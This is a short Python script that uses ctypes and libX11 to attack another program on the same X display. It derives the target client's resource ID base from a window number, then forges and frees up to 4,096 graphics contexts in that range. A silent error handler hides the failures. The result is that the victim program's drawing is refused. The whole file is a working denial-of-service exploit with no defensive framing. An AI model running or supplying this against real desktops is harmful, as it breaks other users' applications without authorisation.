"""Takes from the program whose window has the given number what it draws with: its graphics contexts. Every picture it
hands over from then on is refused."""
import ctypes
import sys

x11 = ctypes.CDLL("libX11.so.6")
x11.XOpenDisplay.restype = ctypes.c_void_p
display = ctypes.c_void_p(x11.XOpenDisplay(None))
NOTHING = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)(lambda _display, _error: 0)
x11.XSetErrorHandler(NOTHING)  # what is no graphics context


class GC(ctypes.Structure):  # as in Xlibint.h
    _fields_ = [("extension", ctypes.c_void_p), ("id", ctypes.c_ulong), ("rest", ctypes.c_long * 64)]


x11.XCreateGC.restype = ctypes.POINTER(GC)
x11.XDefaultRootWindow.restype = ctypes.c_ulong
root = ctypes.c_ulong(x11.XDefaultRootWindow(display))
first = int(sys.argv[1]) & ~0x1FFFFF  # the numbers of one program begin there
for number in range(first, first + 4096):
    gc = x11.XCreateGC(display, root, ctypes.c_ulong(0), None)
    gc.contents.id = number
    x11.XFreeGC(display, gc)
x11.XSync(display, 0)
